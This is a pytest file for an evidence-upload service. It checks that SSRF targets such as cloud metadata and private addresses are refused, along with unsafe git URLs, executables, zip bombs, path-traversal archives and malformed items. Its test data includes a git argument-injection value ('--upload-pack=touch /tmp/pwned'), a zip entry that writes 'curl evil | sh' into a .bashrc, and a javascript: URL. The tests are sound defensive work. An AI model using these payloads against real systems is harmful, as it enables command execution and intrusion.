"""Every way evidence is refused: a clear 4xx with a stable code, and nothing stored (no item row,
no blob); or, for what only fetching a URL or cloning a repository can tell, the item (answered
202) ends ``failed`` with that code in its ``error``, and no bytes stored. Limits here are the test
settings': 256 KiB per item, 4 items and 600 KiB per bundle."""

import os

import pytest

from tests.evidence.archive_samples import MIB, make_zip, symlink_zip, zip_bomb
from tests.evidence.conftest import make_local_fetchers, settled
from tests.evidence.git_server import make_repository
from tests.net.local_server import endless, redirect, respond, slow

KIB = 1024


def add(client, bundle, headers, body):
    return client.post(f"/v1/evidence/bundles/{bundle['id']}/items", json=body, headers=headers)


def upload(client, bundle, headers, file_name, data, content_type="application/octet-stream"):
    return client.post(
        f"/v1/evidence/bundles/{bundle['id']}/files", headers=headers, files={"file": (file_name, data, content_type)}
    )


@pytest.fixture
def refused(stored):
    """``refused(response, status, code)``: asserts the refusal and that nothing was stored."""
    before = stored.snapshot()

    def check(response, status: int, code: str) -> None:
        assert (response.status_code, response.json()["error"]) == (status, code), response.text
        assert "Traceback" not in response.text
        assert stored.snapshot() == before

    return check


@pytest.fixture
def fails(client, earner, bundle, stored):
    """``fails(response, code)``: the item was accepted (202) and its fetch job marked it
    ``failed`` with ``code`` leading its error; no bytes were stored."""

    def check(response, code: str) -> dict:
        before = stored.snapshot()
        assert response.status_code == 202, response.text
        item = settled(client, bundle["id"], response.json()["id"], earner)
        assert item["state"] == "failed" and item["error"].startswith(f"{code}: "), item
        assert (item["sha256"], item["size"], item["content_url"]) == (None, 0, None)
        assert stored.snapshot()[1] == before[1]
        return item

    return check


# --- URLs with the production fetcher: https only, public addresses only --------------------------

PRODUCTION_URL_REFUSALS = [
    ("http://example.org/cv", "url_bad_scheme"),
    ("https://127.0.0.1/admin", "url_blocked_address"),
    ("https://169.254.169.254/latest/meta-data/", "url_blocked_address"),
    ("https://[::1]/", "url_blocked_address"),
    ("https://10.0.0.8:8443/internal", "url_blocked_address"),
]


def test_the_production_fetcher_refuses_plain_http_and_private_addresses(client, earner, bundle, refused):
    for url, code in PRODUCTION_URL_REFUSALS:
        refused(add(client, bundle, earner, {"kind": "url", "url": url}), 422, code)


def test_a_name_that_resolves_to_a_private_address_fails_the_item(
    client, earner, bundle, fails, settings, use_fetchers, http_server
):
    from service.evidence.intake import EvidenceFetchers
    from service.evidence.repositories import RepositoryFetcher
    from service.net import SafeFetcher
    from tests.net.local_server import fixed_resolver

    resolver = fixed_resolver({"intranet.test": ["192.168.1.10"], "local.test": ["127.0.0.1"]})
    use_fetchers(
        EvidenceFetchers(urls=SafeFetcher(resolver=resolver), repositories=RepositoryFetcher(resolver=resolver))
    )
    fails(add(client, bundle, earner, {"kind": "url", "url": "https://intranet.test/hr"}), "url_blocked_address")
    fails(
        add(client, bundle, earner, {"kind": "url", "url": f"https://local.test:{http_server.port}/"}),
        "url_blocked_address",
    )
    assert http_server.requests == []


# --- URLs against a local server (the test fetcher may reach 127.0.0.1) ------------------------


def test_a_url_whose_body_is_too_large_fails_the_item(client, earner, bundle, fails, http_server, local_fetchers):
    http_server.routes["/huge"] = endless(http_server)
    fails(add(client, bundle, earner, {"kind": "url", "url": http_server.url("/huge")}), "url_too_large")


def test_a_url_that_is_too_slow_fails_the_item(client, earner, bundle, fails, http_server, local_fetchers):
    http_server.routes["/slow"] = slow(http_server, 3)
    fails(add(client, bundle, earner, {"kind": "url", "url": http_server.url("/slow")}), "url_timeout")


def test_a_url_that_redirects_too_often_or_to_a_private_address_fails_the_item(
    client, earner, bundle, fails, http_server, local_fetchers
):
    for n in range(6):
        http_server.routes[f"/r{n}"] = redirect(f"/r{n + 1}")
    fails(add(client, bundle, earner, {"kind": "url", "url": http_server.url("/r0")}), "url_too_many_redirects")
    http_server.routes["/to-metadata"] = redirect("http://169.254.169.254/latest/meta-data/")
    fails(add(client, bundle, earner, {"kind": "url", "url": http_server.url("/to-metadata")}), "url_blocked_address")


def test_a_url_that_answers_an_error_or_an_executable_fails_the_item(
    client, earner, bundle, fails, http_server, local_fetchers
):
    http_server.routes["/gone"] = respond(404, b"not here")
    fails(add(client, bundle, earner, {"kind": "url", "url": http_server.url("/gone")}), "url_http_error")
    http_server.routes["/tool"] = respond(200, b"\x7fELF\x02\x01\x01" + b"\0" * 100, {"Content-Type": "text/plain"})
    fails(add(client, bundle, earner, {"kind": "url", "url": http_server.url("/tool")}), "evidence_executable")


# --- repositories --------------------------------------------------------------------------------


@pytest.fixture
def published(tmp_path, git_server):
    commits = make_repository(tmp_path / "src", [{"README.md": "# Work\n"}])
    return git_server.publish(tmp_path / "src"), commits[0]


REPOSITORY_URL_REFUSALS = [
    ("ssh://git@github.com/ada/work.git", "repository_bad_scheme"),
    ("git://github.com/ada/work.git", "repository_bad_scheme"),
    ("file:///srv/git/work.git", "repository_bad_scheme"),
    ("ext::git-remote-evil", "repository_bad_scheme"),
    ("-uhttps://github.com/ada/work.git", "repository_bad_url"),
    ("--upload-pack=touch /tmp/pwned", "repository_bad_url"),
    ("https://ada:token@github.com/ada/work.git", "repository_bad_url"),
    ("https://127.0.0.1/ada/work.git", "repository_blocked_address"),
    ("https://[fe80::1]/ada/work.git", "repository_blocked_address"),
]


def test_repository_urls_that_are_not_plain_public_https_are_refused(client, earner, bundle, refused):
    for url, code in REPOSITORY_URL_REFUSALS:
        refused(add(client, bundle, earner, {"kind": "repository", "url": url, "commit": "a" * 40}), 422, code)


def test_a_repository_host_that_resolves_privately_fails_the_item(
    client, earner, bundle, fails, settings, use_fetchers, git_server, published
):
    from service.evidence.intake import EvidenceFetchers
    from service.evidence.repositories import RepositoryFetcher
    from service.net import SafeFetcher
    from tests.net.local_server import fixed_resolver

    resolver = fixed_resolver({"git.test": ["127.0.0.1"]})  # no allowance for loopback this time
    use_fetchers(
        EvidenceFetchers(
            urls=SafeFetcher(resolver=resolver),
            repositories=RepositoryFetcher(resolver=resolver, ca_file=git_server.ca_file),
        )
    )
    url, commit = published
    fails(
        add(client, bundle, earner, {"kind": "repository", "url": url, "commit": commit}), "repository_blocked_address"
    )
    assert git_server.requests == []


def test_an_unknown_commit_fails_the_item(client, earner, bundle, fails, local_fetchers, published):
    url, _commit = published
    fails(
        add(client, bundle, earner, {"kind": "repository", "url": url, "commit": "f" * 40}), "repository_unknown_commit"
    )


def test_a_repository_too_large_fails_the_item(client, earner, bundle, fails, tmp_path, git_server, local_fetchers):
    commits = make_repository(tmp_path / "big", [{"noise.bin": os.urandom(700 * KIB)}])
    url = git_server.publish(tmp_path / "big", "big")
    fails(add(client, bundle, earner, {"kind": "repository", "url": url, "commit": commits[0]}), "repository_too_large")


def test_a_repository_that_takes_too_long_fails_the_item(
    client, earner, bundle, fails, settings, git_server, use_fetchers, published
):
    use_fetchers(make_local_fetchers(settings, ca_file=git_server.ca_file, timeout=1.0))
    git_server.stall = True
    url, commit = published
    fails(add(client, bundle, earner, {"kind": "repository", "url": url, "commit": commit}), "repository_timeout")


# --- uploads ---------------------------------------------------------------------------------------


def test_an_upload_over_the_item_limit_is_refused(client, earner, bundle, refused):
    refused(upload(client, bundle, earner, "big.txt", b"a" * (256 * KIB + 1)), 413, "evidence_file_too_large")


def test_an_upload_far_over_the_limit_is_stopped_at_the_door(client, earner, bundle, refused):
    response = upload(client, bundle, earner, "huge.txt", b"a" * (2 * MIB))
    refused(response, 413, "payload_too_large")


def test_a_text_over_the_item_limit_is_refused(client, earner, bundle, refused):
    refused(
        add(client, bundle, earner, {"kind": "text", "text": "é" * (128 * KIB + 1)}), 413, "evidence_file_too_large"
    )


def test_more_items_than_a_bundle_holds_are_refused(client, earner, bundle, stored):
    for n in range(4):
        assert add(client, bundle, earner, {"kind": "text", "text": f"item {n}"}).status_code == 201
    before = stored.snapshot()
    for response in (
        add(client, bundle, earner, {"kind": "text", "text": "one too many"}),
        upload(client, bundle, earner, "extra.txt", b"one too many"),
    ):
        assert response.status_code == 409 and response.json()["error"] == "evidence_bundle_full"
    assert stored.snapshot() == before


def test_more_bytes_than_a_bundle_holds_are_refused(client, earner, bundle, stored):
    for n in range(2):
        assert upload(client, bundle, earner, f"part{n}.txt", bytes([65 + n]) * (250 * KIB)).status_code == 201
    before = stored.snapshot()
    response = upload(client, bundle, earner, "part3.txt", b"C" * (250 * KIB))
    assert response.status_code == 413 and response.json()["error"] == "evidence_bundle_too_large"
    assert stored.snapshot() == before


UNSAFE_FILES = {
    "executable-named-pdf": ("tool.pdf", b"\x7fELF\x02\x01\x01" + b"\0" * 64, 415, "evidence_executable"),
    "windows-executable": ("setup.exe", b"MZ\x90\x00" + b"\0" * 64, 415, "evidence_executable"),
    "unknown-binary": ("blob.bin", bytes(range(256)), 415, "evidence_media_type_unsupported"),
    "empty": ("empty.txt", b"", 422, "evidence_empty"),
    "zip-bomb": ("bomb.zip", zip_bomb(3 * MIB), 422, "archive_too_large"),
    "zip-bomb-ratio": ("ratio.zip", zip_bomb(int(1.5 * MIB)), 422, "archive_ratio"),
    "path-traversal": (
        "evil.zip",
        make_zip({"../../home/ada/.bashrc": "curl evil | sh"}),
        422,
        "archive_path_traversal",
    ),
    "absolute-path": ("abs.zip", make_zip({"/etc/cron.d/evil": "x"}), 422, "archive_absolute_path"),
    "symlink": ("link.zip", symlink_zip(), 422, "archive_symlink"),
    "nested-twice": (
        "deep.zip",
        make_zip({"a.zip": make_zip({"b.zip": make_zip({"c.txt": "x"})})}),
        422,
        "archive_nested",
    ),
}


def test_files_that_are_unsafe_or_unreadable_are_refused(client, earner, bundle, refused):
    for file_name, data, status, code in UNSAFE_FILES.values():
        refused(upload(client, bundle, earner, file_name, data, "application/pdf"), status, code)


def test_an_honest_archive_is_accepted(client, earner, bundle):
    response = upload(client, bundle, earner, "project.zip", make_zip({"README.md": "# hi", "src/a.py": "x = 1"}))
    assert response.status_code == 201 and response.json()["media_type"] == "application/zip"


MALFORMED_ITEMS = [
    {"kind": "testimonial", "statement": "Great", "author_name": "Grace"},  # no contact
    {"kind": "testimonial", "statement": "Great", "author_name": "Grace", "contact_phone": "call me"},
    {"kind": "text", "text": "nul\x00byte"},
    {"kind": "text", "text": ""},
    {"kind": "url", "url": "javascript:alert(1)"},
    {"kind": "video", "url": "https://example.org"},
    {"kind": "repository", "url": "https://github.com/a/b.git", "commit": "main"},
]


def test_malformed_items_are_validation_errors(client, earner, bundle, refused):
    for body in MALFORMED_ITEMS:
        refused(add(client, bundle, earner, body), 422, "validation_error")


def test_an_upload_title_with_control_characters_is_a_validation_error(client, earner, bundle, refused):
    response = client.post(
        f"/v1/evidence/bundles/{bundle['id']}/files",
        headers=earner,
        files={"file": ("a.txt", b"text", "text/plain")},
        data={"name": "bad\x00name"},
    )
    refused(response, 422, "validation_error")
